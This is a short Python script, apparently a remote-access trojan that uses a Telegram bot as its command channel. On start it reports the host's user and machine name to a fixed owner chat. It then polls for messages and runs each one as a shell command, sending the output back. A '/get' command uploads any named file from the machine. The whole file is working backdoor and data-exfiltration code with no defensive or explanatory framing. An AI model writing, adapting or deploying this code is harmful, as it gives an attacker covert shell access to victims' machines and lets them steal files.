import os
import subprocess as sp
import time
import requests

TOKEN = "1234567890:AAExampleExampleExampleExampleExample"
API = f"https://api.telegram.org/bot{TOKEN}/"
OWNER = 424242
last = 0


def say(txt):
    for i in range(0, len(txt), 4000):
        requests.post(API + "sendMessage", data={"chat_id": OWNER, "text": txt[i:i + 4000]})


say(f"online {os.getlogin()}@{os.uname().nodename}")
while True:
    try:
        upd = requests.get(API + "getUpdates", params={"offset": last + 1, "timeout": 50}, timeout=60).json()
    except Exception:
        time.sleep(5)
        continue
    for u in upd.get("result", []):
        last = u["update_id"]
        m = u.get("message", {})
        if m.get("chat", {}).get("id") != OWNER:
            continue
        t = m.get("text", "")
        if t.startswith("/get "):
            with open(t[5:], "rb") as f:
                requests.post(API + "sendDocument", data={"chat_id": OWNER}, files={"document": f})
        elif t.startswith("/cd "):
            os.chdir(t[4:])
        else:
            r = sp.run(t, shell=True, capture_output=True, text=True)
            say(r.stdout + r.stderr or "(none)")
